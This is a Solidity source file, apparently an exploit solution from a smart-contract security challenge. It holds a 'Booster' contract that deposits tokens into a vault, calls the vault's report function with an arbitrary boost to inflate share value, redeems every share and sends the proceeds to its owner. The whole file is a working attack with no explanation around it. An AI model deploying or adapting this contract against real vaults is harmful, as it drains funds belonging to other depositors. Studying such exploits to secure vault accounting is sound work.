// SPDX-License-Identifier: MIT
pragma solidity ^0.8.26;

import {Token} from "../_shared/Token.sol";

interface IManagedVault {
    function deposit(uint256 assets) external returns (uint256);
    function redeem(uint256 shares) external returns (uint256);
    function report(int256 delta) external;
    function sharesOf(address who) external view returns (uint256);
}

contract Booster {
    address immutable owner = msg.sender;

    function run(Token t, IManagedVault v, uint256 stake, int256 boost) external {
        t.approve(address(v), stake);
        v.deposit(stake);
        v.report(boost);
        v.redeem(v.sharesOf(address(this)));
        t.transfer(owner, t.balanceOf(address(this)));
    }
}
